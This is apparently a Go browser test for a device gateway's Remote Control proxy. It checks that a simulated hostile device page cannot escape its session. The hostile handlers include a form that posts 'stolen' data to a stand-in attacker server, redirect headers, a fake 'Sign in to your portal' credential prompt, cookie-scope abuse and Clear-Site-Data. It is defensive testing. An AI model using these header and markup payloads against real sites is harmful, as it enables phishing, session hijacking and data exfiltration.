package server_test

import (
	"bufio"
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/storage"
	"github.com/chromedp/chromedp"
)

// serveDeviceHandler answers every Remote Control tunnel of d with h, as
// the device's own web server would.
func serveDeviceHandler(d *rawDevice, h http.Handler) {
	go func() {
		for {
			st, err := d.sess.AcceptStream()
			if err != nil {
				return
			}
			go func() {
				defer st.Close()
				br := bufio.NewReader(st)
				if _, err := br.ReadString('\n'); err != nil { // the tunnel header
					return
				}
				req, err := http.ReadRequest(br)
				if err != nil {
					return
				}
				rec := httptest.NewRecorder()
				h.ServeHTTP(rec, req)
				res := rec.Result()
				res.Close = true
				res.Write(st)
			}()
		}
	}()
}

// keepAlive sends d's status every second, so the gateway keeps a raw
// device online for a test longer than its heartbeats.
func keepAlive(t *testing.T, d *rawDevice) {
	done := make(chan struct{})
	t.Cleanup(func() { close(done) })
	go func() {
		for {
			if _, err := d.ctrl.Write([]byte(`{"type":"status","ip":"192.0.2.1","uptime":5}` + "\n")); err != nil {
				return
			}
			select {
			case <-done:
				return
			case <-time.After(time.Second):
			}
		}
	}()
	go func() {
		for {
			if _, err := d.br.ReadBytes('\n'); err != nil {
				return
			}
		}
	}()
}

// hostileDevice is a device web interface whose pages try to act on the
// portal's origin through response headers and markup rather than scripts.
func hostileDevice(evil string) http.Handler {
	page := func(w http.ResponseWriter, body string) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, "<!doctype html><html><head><title>device</title></head><body>%s</body></html>", body)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /cookie", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Add("Set-Cookie", "dev_root=1; Path=/")
		w.Header().Add("Set-Cookie", "dev_domain=1; Domain=127.0.0.1; Path=/")
		page(w, `<p id="p">cookie</p>`)
	})
	mux.HandleFunc("GET /refresh", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Refresh", "0;url="+evil+"/refresh-header")
		page(w, `<p id="p">refresh</p>`)
	})
	mux.HandleFunc("GET /meta", func(w http.ResponseWriter, r *http.Request) {
		page(w, `<meta http-equiv="Refresh" content="0;url=`+evil+`/meta-refresh"><p id="p">meta</p>`)
	})
	mux.HandleFunc("GET /auth", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("WWW-Authenticate", `Basic realm="Sign in to your portal"`)
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(http.StatusUnauthorized)
		fmt.Fprint(w, `<p id="p">auth</p>`)
	})
	mux.HandleFunc("GET /form", func(w http.ResponseWriter, r *http.Request) {
		page(w, `<form method="post" action="`+evil+`/steal"><input name="x" value="stolen"><button id="out">Out</button></form>`+
			`<form method="post" action="/"><button id="portal">Portal</button></form>`+
			`<form method="post" action="echo"><input name="x" value="kept"><button id="in">In</button></form><p id="p">form</p>`)
	})
	mux.HandleFunc("POST /echo", func(w http.ResponseWriter, r *http.Request) {
		page(w, `<p id="p">posted `+r.FormValue("x")+`</p>`)
	})
	mux.HandleFunc("GET /clear", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Clear-Site-Data", `"cookies", "storage"`)
		page(w, `<p id="p">clear</p>`)
	})
	return mux
}

// TestBrowserRemoteControlHeadersStayWithTheDevice: a device page shown
// through Remote Control on the portal's origin cannot act on that origin
// through headers or markup (found by review): it cannot log the user out
// with Clear-Site-Data, send the tab away with Refresh or a meta refresh,
// raise a credential prompt with WWW-Authenticate, post a form to another
// site, or set a cookie outside its session's path.
func TestBrowserRemoteControlHeadersStayWithTheDevice(t *testing.T) {
	execPath := requireChromium(t)
	var evilHits atomic.Int32
	evilSrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		evilHits.Add(1)
		t.Logf("the other site got %s %s", r.Method, r.URL)
		fmt.Fprint(w, `<p id="p">elsewhere</p>`)
	}))
	defer evilSrv.Close()
	evil := evilSrv.URL

	e := newGatewayEnv(t, "sqlite", nil, nil, gwOptions)
	mac := subMACs(t, e.st, 1)[0]
	d := connectRaw(t, e, mac)
	keepAlive(t, d)
	serveDeviceHandler(d, hostileDevice(evil))
	eventually(t, 5*time.Second, "online", func() bool { return e.srv.Gateway().Connected() == 1 })
	r := e.do(nil, "POST", "/api/v1/devices/"+mac+"/remote-sessions", nil, bearer(e.token("demo-subdistributor")))
	if r.StatusCode != 201 {
		t.Fatalf("session: %d %s", r.StatusCode, r.body)
	}
	u, _ := url.Parse(fmt.Sprint(r.json(t)["url"]))
	prefix := u.Path // /remote/{token}/

	c := newChrome(t, execPath, e.url, 1024, 768, 90*time.Second)
	c.login("demo-subdistributor")
	stays := func(what, path string) {
		t.Helper()
		time.Sleep(1500 * time.Millisecond) // a refresh of 0 s would have happened
		if p := c.path(); p != path {
			t.Errorf("%s: the tab went to %s", what, p)
		}
		if n := evilHits.Swap(0); n != 0 {
			t.Errorf("%s: the other site was reached %d times", what, n)
		}
	}

	// Cookies: only in the session's path, whatever the device asks.
	if st := c.open(prefix + "cookie"); st != 200 {
		t.Fatalf("cookie page: %d", st)
	}
	cookies, err := chromedp.Call(c.ctx, storage.GetCookies, storage.GetCookiesParams{})
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, ck := range cookies.Cookies {
		if strings.HasPrefix(ck.Name, "dev_") {
			seen++
			if ck.Path != prefix {
				t.Errorf("device cookie %s has path %q, want %q", ck.Name, ck.Path, prefix)
			}
		}
	}
	if seen == 0 {
		t.Error("the device's cookies were not set at all")
	}

	// Refresh header and meta refresh to another site.
	if st := c.open(prefix + "refresh"); st != 200 {
		t.Fatalf("refresh page: %d", st)
	}
	stays("Refresh header", prefix+"refresh")
	if st := c.open(prefix + "meta"); st != 200 {
		t.Fatalf("meta page: %d", st)
	}
	stays("meta refresh", prefix+"meta")

	// WWW-Authenticate: the status reaches the browser, the challenge does not.
	actx, cancel := context.WithTimeout(c.ctx, 10*time.Second)
	res, err := chromedp.Run(actx, chromedp.NavigateResponse(e.url+prefix+"auth"))
	cancel()
	if err != nil {
		t.Errorf("auth page (a credential prompt holds the navigation?): %v", err)
	} else {
		if res.Status != 401 {
			t.Errorf("auth page: %d, want the device's 401", res.Status)
		}
		for k, v := range res.Headers {
			if strings.EqualFold(k, "WWW-Authenticate") {
				t.Errorf("the browser got a credential challenge from the device: %v", v)
			}
		}
	}

	// Forms: back to the device, yes; to another site, no.
	if st := c.open(prefix + "form"); st != 200 {
		t.Fatalf("form page: %d", st)
	}
	// Submitted from the test's side: the page's own scripts do not run.
	chromeEval[bool](c, `(document.getElementById('out').click(), true)`)
	stays("form to another site", prefix+"form")
	// Nor to the portal outside the session.
	c.open(prefix + "form")
	chromeEval[bool](c, `(document.getElementById('portal').click(), true)`)
	stays("form to the portal", prefix+"form")
	c.open(prefix + "form")
	if st := c.clickAndLoad("#in"); st != 200 {
		t.Fatalf("form to the device: %d", st)
	}
	if got := c.text("#p"); got != "posted kept" {
		t.Errorf("the device's own form: %q", got)
	}

	// Clear-Site-Data: the portal session survives.
	if st := c.open(prefix + "clear"); st != 200 {
		t.Fatalf("clear page: %d", st)
	}
	if got := c.text("#p"); got != "clear" {
		t.Errorf("clear page: %q", got)
	}
	if st := c.open("/"); st != 200 || c.path() != "/" {
		t.Errorf("after a device's Clear-Site-Data the portal is at %s (%d): logged out", c.path(), st)
	}
}
